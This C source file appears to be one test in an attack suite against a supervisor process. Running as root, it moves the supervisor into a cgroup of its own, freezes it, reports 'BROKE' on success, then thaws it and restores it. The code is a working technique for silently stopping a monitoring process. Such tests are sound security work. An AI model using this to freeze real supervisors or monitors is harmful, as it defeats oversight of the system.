/* Freeze the supervisor: move it to a cgroup of one's own (version 1 or 2), and freeze that. Needs: root. */
#include "../attack.h"

static int say(const char *folder, const char *file, const char *word)
{
	int fd = open(in(folder, file), O_WRONLY);
	ssize_t size = fd < 0 ? -1 : write(fd, word, strlen(word));
	if (fd >= 0)
		close(fd);
	return size < 0 ? -1 : 0;
}

static char state_of(pid_t pid)
{
	char room[512] = "", state = 0;
	int fd = open(proc(pid, "wchan"), O_RDONLY);
	if (fd >= 0 && read(fd, room, sizeof room - 1) > 0 && strstr(room, "freez"))
		state = 'F';
	if (fd >= 0)
		close(fd);
	return state;
}

static void freeze(const char *folder, const char *file, const char *cold, const char *warm, const char *home)
{
	char number[16];
	pid_t watched = fork();
	if (watched == 0) { /* whoever is served while it is frozen cannot tell: a child looks on */
		snprintf(number, sizeof number, "%d", (int)supervisor());
		if (mkdir(folder, 0700) < 0 && errno != EEXIST)
			_exit(1);
		int moved = say(folder, "cgroup.procs", number) == 0 || say(folder, "tasks", number) == 0;
		int lever = open(in(folder, file), O_WRONLY);
		int frozen = moved && lever >= 0 && write(lever, cold, strlen(cold)) > 0;
		usleep(200000);
		if (frozen)
			dprintf(1, "BROKE the supervisor is frozen%s\n", state_of(supervisor()) ? "" : " by its cgroup");
		if (lever >= 0 && write(lever, warm, strlen(warm)) < 0)
			_exit(1);
		say(home, "cgroup.procs", number);
		rmdir(folder);
		_exit(0);
	}
	waitpid(watched, NULL, 0);
}

int main(void)
{
	freeze("/sys/fs/cgroup/freezer/hermes-attack", "freezer.state", "FROZEN", "THAWED", "/sys/fs/cgroup/freezer");
	freeze("/sys/fs/cgroup/unified/hermes-attack", "cgroup.freeze", "1", "0", "/sys/fs/cgroup/unified");
	freeze("/sys/fs/cgroup/hermes-attack", "cgroup.freeze", "1", "0", "/sys/fs/cgroup");
	return 0;
}
